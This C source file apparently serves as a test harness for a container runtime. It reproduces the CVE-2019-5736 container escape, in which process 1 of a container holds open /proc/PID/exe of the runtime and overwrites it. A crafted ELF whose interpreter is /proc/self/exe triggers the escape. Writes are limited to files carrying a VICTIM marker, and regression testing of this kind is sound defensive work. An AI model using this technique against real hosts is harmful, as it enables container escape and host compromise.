/*
 * overwrite: the attacker of CVE-2019-5736, run as process 1 of a container. It opens
 * /proc/PID/exe of every process that is not its own program, keeps the descriptor, and writes
 * through it as soon as the kernel lets it, which is when the runtime that was caught has ended. It
 * writes to nothing but files that end in VICTIM: should a container ever see the host, it does no
 * harm there.
 *
 *   overwrite watch DIR FILE    until DIR/stop exists; notes in DIR/caught and DIR/written; FILE,
 *                               which others of the container run, is let alone
 *   overwrite interp FILE       makes FILE an ELF program whose interpreter is /proc/self/exe
 */
#include <dirent.h>
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <link.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

enum { CAUGHT_MAX = 64 };

#define VICTIM "victim of overwrite.t\n"

static struct caught {
	int fd;
	dev_t dev;
	ino_t ino;
	int written;
} caught[CAUGHT_MAX];
static int caught_count;

/* Takes a file as if it had been caught and written to already. */
static int let_alone(const char *path)
{
	struct stat st;
	if (stat(path, &st) < 0)
		return -1;
	caught[caught_count++] = (struct caught){ -1, st.st_dev, st.st_ino, 1 };
	return 0;
}

static void note(const char *name, const struct caught *c)
{
	int fd = open(name, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
	dprintf(fd, "%llx:%llu\n", (unsigned long long)c->dev, (unsigned long long)c->ino);
	close(fd);
}

static void catch_exe(const char *pid)
{
	char path[64];
	struct stat st;
	snprintf(path, sizeof(path), "/proc/%.20s/exe", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	int known = fstat(fd, &st) < 0;
	for (int i = 0; i < caught_count && !known; i++)
		known = caught[i].dev == st.st_dev && caught[i].ino == st.st_ino;
	if (known || caught_count == CAUGHT_MAX) {
		close(fd);
		return;
	}
	caught[caught_count] = (struct caught){ fd, st.st_dev, st.st_ino, 0 };
	note("caught", &caught[caught_count++]);
}

static int is_victim(int fd)
{
	char end[sizeof(VICTIM)] = "";
	struct stat st;
	return fstat(fd, &st) == 0 && st.st_size > (off_t)sizeof(end) &&
		pread(fd, end, sizeof(end) - 1, st.st_size - (off_t)sizeof(end) + 1) > 0 &&
		!strcmp(end, VICTIM);
}

/* ETXTBSY as long as somebody executes it: try again, for ever. */
static void write_to(struct caught *c)
{
	char path[64];
	if (!is_victim(c->fd))
		return;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", c->fd);
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	if (write(fd, "#!/overwritten\n", 15) == 15) {
		c->written = 1;
		note("written", c);
	}
	close(fd);
}

static int watch(const char *dir, const char *file)
{
	struct stat st;
	if (let_alone("/proc/self/exe") < 0 || let_alone(file) < 0 || chdir(dir) < 0)
		return 1;
	close(open("ready", O_WRONLY | O_CREAT, 0644));
	while (stat("stop", &st) < 0) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;
		while (proc && (entry = readdir(proc)))
			if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9')
				catch_exe(entry->d_name);
		closedir(proc);
		for (int i = 0; i < caught_count; i++)
			if (!caught[i].written)
				write_to(&caught[i]);
		while (waitpid(-1, NULL, WNOHANG) > 0)
			;
	}
	return 0;
}

/* Header and CPU are taken from ourselves; the only segment that counts is PT_INTERP. */
static int interp(const char *path)
{
	struct {
		ElfW(Ehdr) header;
		ElfW(Phdr) segments[2];
		char name[16];
	} file = { .name = "/proc/self/exe" };
	int self = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
	if (self < 0 || read(self, &file.header, sizeof(file.header)) != sizeof(file.header))
		return 1;
	file.header.e_type = ET_DYN;
	file.header.e_phoff = sizeof(file.header);
	file.header.e_phnum = 2;
	file.header.e_shnum = file.header.e_shstrndx = 0;
	file.header.e_shoff = 0;
	file.header.e_entry = sizeof(file.header);
	size_t at = sizeof(file.header) + sizeof(file.segments);
	file.segments[0] = (ElfW(Phdr)){ .p_type = PT_INTERP, .p_flags = PF_R, .p_offset = at, .p_vaddr = at,
		.p_paddr = at, .p_filesz = 15, .p_memsz = 15, .p_align = 1 };
	file.segments[1] = (ElfW(Phdr)){ .p_type = PT_LOAD, .p_flags = PF_R | PF_X, .p_filesz = sizeof(file),
		.p_memsz = sizeof(file), .p_align = 0x10000 };
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
	return fd < 0 || write(fd, &file, sizeof(file)) != sizeof(file);
}

int main(int argc, char **argv)
{
	if (argc == 4 && !strcmp(argv[1], "watch"))
		return watch(argv[2], argv[3]);
	if (argc == 3 && !strcmp(argv[1], "interp"))
		return interp(argv[2]);
	fprintf(stderr, "usage: overwrite watch DIR FILE | interp FILE\n");
	return 2;
}
